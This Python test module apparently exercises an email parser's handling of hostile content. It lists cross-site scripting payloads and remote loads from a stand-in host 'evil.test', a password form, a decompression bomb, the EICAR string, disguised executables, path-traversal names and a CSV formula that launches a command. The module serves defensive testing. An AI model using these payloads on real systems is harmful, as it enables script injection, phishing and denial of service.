"""What came along: markup that acts, files that are not what they say, names that mislead."""

from __future__ import annotations

import base64
import gzip
import re
import zlib
from typing import TYPE_CHECKING

from mail_corpus import HEAD, Case

if TYPE_CHECKING:
    from collections.abc import Iterator

MIXED = b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
TEXT = b"--b\r\nContent-Type: text/plain\r\n\r\nSee here.\r\n"

HTML = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "a script cut short": "<script>alert(1)",
    "a script within a tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a handler": '<img src="cid:x" onerror="alert(1)">',
    "a handler after a slash": "<img/src=x/onerror=alert(1)>",
    "a handler on the body": '<body onload="alert(1)">',
    "a link that acts": '<a href="javascript:alert(1)">x</a>',
    "a link with blanks": '<a href="java\tscript:alert(1)">x</a>',
    "a link in entities": '<a href="&#106;avascript:alert(1)">x</a>',
    "a link of data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "a link of VBScript": '<a href="vbscript:msgbox(1)">x</a>',
    "a picture from elsewhere": '<img src="https://evil.test/p.gif">',
    "a picture of one pixel": "<img src=http://evil.test/p.gif width=1 height=1 border=0>",
    "a picture by style": '<div style="background-image:url(https://evil.test/p)">x</div>',
    "a background": '<table background="https://evil.test/p"><tr><td>x</td></tr></table>',
    "a sheet": '<link rel="stylesheet" href="https://evil.test/x.css">',
    "a style": "<style>body{background:url(https://evil.test/p)}</style>",
    "an import": "<style>@import url(https://evil.test/x.css);</style>",
    "a frame": '<iframe src="https://evil.test/"></iframe>',
    "a frame of its own": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="https://evil.test/x"></object>',
    "an embedding": '<embed src="https://evil.test/x">',
    "a form": '<form action="https://evil.test/"><input name="password"></form>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "a base": '<base href="https://evil.test/">',
    "SVG": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><rect/></a></svg>',
    "SVG with a script": "<svg><script>alert&#40;1)</script></svg>",
    "MathML": '<math href="javascript:alert(1)">x</math>',
    "a mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "another mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "a comment": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "a comment that does not end": "<!-- <script>alert(1)</script>",
    "a template": "<template><script>alert(1)</script></template>",
    "a video": '<video><source onerror="alert(1)" src="https://evil.test/v"></video>',
    "details": "<details open ontoggle=alert(1)>x</details>",
    "a marquee": "<marquee onstart=alert(1)>x</marquee>",
    "a portal": '<portal src="https://evil.test/"></portal>',
    "an XML island": "<xml><script>alert(1)</script></xml>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "a template's words": "{{constructor.constructor('alert(1)')()}}",
    "thousands of elements": "<b>" * 5000 + "x",
    "thousands of attributes": "<p " + "a=b " * 5000 + ">x</p>",
    "a table within a table": "<table><tr><td>" * 100 + "x",
    "NUL within a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
}
HARMFUL = re.compile(
    r"<\s*(?:script|style|svg|math|iframe|object|embed|form|input|meta|base|link|template|video"
    r"|source|portal|body)|\son\w+\s*=|(?:java|vb)script:|data:|=\s*[\"']?https?://evil|<!--",
    re.IGNORECASE,
)


TAGS = re.compile(r"<[^<>]*>")
TOLD = re.compile(r' (?:title|alt)="[^"<>]*"')


def harmless(html: str | None) -> bool:
    """Whether no tag acts; what is written out as text does not, whatever it looks like."""
    tags = TOLD.sub("", " ".join(TAGS.findall(html or "")))
    return not HARMFUL.search(tags) and "<" not in TAGS.sub("", html or "")


def file(name: bytes, kind: bytes, data: bytes, packing: bytes = b"base64") -> bytes:
    packed = base64.encodebytes(data) if packing == b"base64" else data
    return (
        HEAD + MIXED + TEXT + b"--b\r\nContent-Type: " + kind
        + b"\r\nContent-Disposition: attachment; filename=" + name
        + b"\r\nContent-Transfer-Encoding: " + packing + b"\r\n\r\n" + packed + b"\r\n--b--\r\n"
    )  # fmt: skip


BOMB = gzip.compress(zlib.compress(b"\0" * 10_000_000))
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%PDF-1.7\n<script>alert(1)</script>\nPK\x03\x04"
FILES = {
    "winmail.dat": (b'"winmail.dat"', b"application/ms-tnef", b"\x78\x9f\x3e\x22" + b"x" * 100),
    "a bomb": (b'"a.gz"', b"application/gzip", BOMB),
    "an archive": (b'"a.zip"', b"application/zip", b"PK\x03\x04" + b"\0" * 100),
    "a virus that is none": (b'"eicar.com"', b"application/octet-stream", EICAR),
    "two kinds at once": (b'"a.pdf"', b"application/pdf", PDF),
    "nothing": (b'"empty.txt"', b"text/plain", b""),
    "a programme": (b'"invoice.pdf.exe"', b"application/pdf", b"MZ\x90\x00"),
    "an icon of a link": (b'"a.url"', b"text/plain", b"[InternetShortcut]\r\nURL=file://x"),
    "HTML": (b'"a.html"', b"text/html", b"<script>alert(1)</script>"),
    "SVG": (b'"a.svg"', b"image/svg+xml", b"<svg onload=alert(1)>"),
    "a mail": (b'"a.eml"', b"application/octet-stream", HEAD + b"\r\nx"),
    "macros": (b'"a.docm"', b"application/vnd.ms-word.document.macroEnabled.12", b"PK\x03\x04"),
    "of no kind": (b'"a"', b"", b"x"),
}
NAMES = {
    "up and away": b'"../../../etc/passwd"',
    "up and away, the other way": b'"..\\..\\windows\\system32\\x.dll"',
    "a root": b'"/etc/passwd"',
    "a drive": b'"C:\\autoexec.bat"',
    "a device": b'"CON"',
    "a stream": b'"a.txt::$DATA"',
    "turned around": '"invoice\u202efdp.exe"'.encode(),
    "NUL": b'"a\x00.exe"',
    "a line break": b'"a\r\n b.txt"',
    "a quotation mark": b'"a\\".txt"',
    "markup": b'"<img src=x onerror=alert(1)>.png"',
    "a formula": b"\"=cmd|' /C calc'!A0.csv\"",
    "a thousand letters": b'"' + b"a" * 1000 + b'.txt"',
    "encoded": b'"=?utf-8?b?0YDQsNGF0YPQvdC+0Lo=?=.pdf"',
    "encoded by RFC 2231": b"\"x\"; filename*=utf-8''%D1%80%D0%B0%D1%85.pdf",
    "empty": b'""',
    "dots": b'".."',
    "eight bits": "рахунок.pdf".encode(),
}

SIGNED = {
    "signed by S/MIME": b'multipart/signed; protocol="application/pkcs7-signature"; boundary="b"',
    "signed by PGP": b'multipart/signed; protocol="application/pgp-signature"; boundary="b"',
    "encrypted by PGP": b'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"',
    "related": b'multipart/related; boundary="b"',
    "alternative": b'multipart/alternative; boundary="b"',
    "a digest": b'multipart/digest; boundary="b"',
    "parallel": b'multipart/parallel; boundary="b"',
    "of a form": b'multipart/form-data; boundary="b"',
}


def cases() -> Iterator[Case]:
    """Give the class."""
    for what, markup in HTML.items():
        told = {"html": harmless, "text": bool}
        kind = b"Content-Type: text/html; charset=utf-8\r\n\r\n"
        page = f"<p>before</p>{markup}<p>after</p>"
        yield Case(f"{what}", HEAD + kind + page.encode(), told=told)
    for what, (name, kind, data) in FILES.items():
        told = {"text": "See here.", "attachments": lambda files: len(files) == 1}
        yield Case(f"a file: {what}", file(name, kind, data), told=told)
    for what, name in NAMES.items():
        sane = {
            "attachments": lambda files: (
                len(files) == 1
                and not re.search(r"[\x00-\x1f]", files[0].name or "")
                and len(files[0].name or "") <= 300
            )
        }
        yield Case(f"a name: {what}", file(name, b"image/png", b"x"), told=sane)
    for what, kind in SIGNED.items():
        parts = TEXT + b"--b\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n--b--\r\n"
        if what == "a digest":
            parts = b"--b\r\n\r\nFrom: x@y.test\r\n\r\nSee here.\r\n--b--\r\n"
        yield Case(what, HEAD + b"Content-Type: " + kind + b"\r\n\r\n" + parts)
    inline = b'--b\r\nContent-Type: text/html\r\n\r\n<img src="cid:logo">See here.\r\n'
    picture = b"--b\r\nContent-Type: image/png\r\nContent-ID: <logo>\r\n\r\nx\r\n--b--\r\n"
    related = MIXED.replace(b"mixed", b"related")
    yield Case("a picture of its own", HEAD + related + inline + picture, told={
        "html": lambda html: "cid:logo" in html, "text": "See here."})  # fmt: skip
